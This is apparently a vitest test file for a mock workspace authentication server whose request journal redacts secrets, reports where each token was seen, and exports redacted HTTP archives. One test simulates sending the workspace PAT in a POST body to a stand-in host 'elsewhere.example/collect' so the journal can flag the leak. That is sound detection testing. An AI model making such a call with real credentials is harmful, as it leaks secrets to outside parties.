import { expect, test } from 'vitest'
import { createWorld } from '../src/world/create-world.js'
import { startServer } from '../src/server/start-server.js'
import type { JournalEntry } from '../src/index.js'
import { callApi, json, requestToken } from './requests.js'
import { rawHttp } from './raw-http.js'

test('the journal shows the target as it was sent, and no secret of its query', async () => {
  const world = createWorld()
  await using server = await startServer({ worlds: [world] })
  const target = `//api/2.0/x%2fy?audience=a%20b&token=${world.workspace.pat}&secret=abc&flag`
  await rawHttp(server.port, [`GET ${target} HTTP/1.1`, `Host: 127.0.0.1:${server.port}`, 'Connection: close'])
  expect(world.journal.entries[0]?.target).toBe('//api/2.0/x%2fy?audience=a%20b&token=[pat#1]&secret=[unknown#1]&flag')
})

test('a query says where a secret was seen: header, form, query, JSON body, path', async () => {
  const world = createWorld()
  const { host, pat } = world.workspace
  const { access_token: token } = await json(await requestToken(world))
  await callApi(world, token)
  await world.fetch(`${host}/api/2.0/preview/scim/v2/Me?access_token=${token}`)
  await world.fetch(`${host}/api/2.0/secrets/elsewhere/${pat}`)
  await world.fetch('https://elsewhere.example/collect', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ note: `the token is ${pat}` }),
  })
  const places = (name: string): readonly string[] =>
    world.journal.sightings(name).map(({ authority, part }) => `${authority}: ${part}`)
  const own = new URL(host).host
  expect(places('client-secret#1')).toEqual([`${own}: header authorization`])
  expect(places('access-token#1')).toEqual([`${own}: header authorization`, `${own}: query access_token`])
  expect(places('pat#1')).toEqual([`${own}: target`, 'elsewhere.example: body'])
})

test('an export opens as an HTTP archive, without a secret', async () => {
  const world = createWorld()
  const { access_token: token } = await json(
    await requestToken(world, { form: { grant_type: 'client_credentials', scope: 'all-apis', note: 'x' } }),
  )
  await callApi(world, `${token}x`)
  const { log } = world.journal.har() as unknown as { log: { version: string; entries: Record<string, any>[] } }
  expect(log.version).toBe('1.2')
  expect(log.entries).toHaveLength(2)
  const [granted, refused] = log.entries as [Record<string, any>, Record<string, any>]
  expect(granted['request']).toMatchObject({
    method: 'POST',
    url: `${world.workspace.host}/oidc/v1/token`,
    postData: { mimeType: expect.stringContaining('application/x-www-form-urlencoded') },
  })
  expect(granted['request'].postData.params).toContainEqual({ name: 'grant_type', value: 'client_credentials' })
  expect(granted['request'].headers).toContainEqual({
    name: 'authorization',
    value: expect.stringMatching(/^\[client-secret#1, \d+ characters\]$/),
  })
  expect(refused).toMatchObject({
    response: { status: 403 },
    _lakeauth: { outcome: 'refused', reason: { code: 'bad-signature' } },
  })
  expect(Number.isNaN(Date.parse(refused['startedDateTime']))).toBe(false)
  const text = JSON.stringify(log)
  for (const { value } of world.canaries) expect(text).not.toContain(value)
})

test('JSON that its sender calls a form, as curl does, is no field, and shown as JSON is', async () => {
  const world = createWorld()
  const { host, pat } = world.workspace
  const answer = await world.fetch(`${host}/api/2.0/token/create`, {
    method: 'POST',
    headers: { authorization: `Bearer ${pat}`, 'content-type': 'application/x-www-form-urlencoded' },
    body: JSON.stringify({
      comment: `for ${pat}`,
      lifetime_seconds: 100,
      more: 'nobody-minted-this',
      password: 12_345_678,
      in: [{ it: pat }],
    }),
  })
  expect(answer.status).toBe(200)
  const [{ request }] = world.journal.of('pat.create') as [JournalEntry]
  expect(request).toMatchObject({
    form: {},
    jsonKeys: ['comment', 'lifetime_seconds', 'more', 'password', 'in'],
    json: {
      comment: 'for [pat#1]',
      lifetime_seconds: 100,
      more: { length: 18, secret: expect.stringMatching(/^unknown#/) },
      password: { length: 8, secret: expect.stringMatching(/^unknown#/) },
      in: { length: expect.any(Number), secret: 'pat#1' },
    },
    bodySecrets: ['pat#1'],
  })
  expect([
    world.journal.count('pat.create', { lifetime_seconds: 100 }),
    world.journal.count('pat.create', { lifetime_seconds: 99 }),
  ]).toEqual([1, 0])
  for (const secret of [pat, 'nobody-minted-this', '12345678']) expect(JSON.stringify(request)).not.toContain(secret)
})

test('an operation that nobody can ask for is refused: a count of it would be 0 for ever', async () => {
  const { journal } = createWorld()
  const message = /^No operation matches "workspace\.tokn"\. Did you mean "workspace\.token"\? Operations: /
  expect(() => journal.count('workspace.tokn')).toThrow(message)
  expect(() => journal.count('workspace.tokn', { outcome: 'ok' })).toThrow(message)
  expect(() => journal.of('workspace.tokn')).toThrow(message)
  await expect(journal.wait('workspace.tokn')).rejects.toThrow(message)
  await expect(journal.wait('workspace.tokn', 0)).rejects.toThrow(TypeError)
  expect(['*', 'workspace.*', 'unmatched', 'tls.handshake'].map((name) => journal.count(name))).toEqual([0, 0, 0, 0])
})
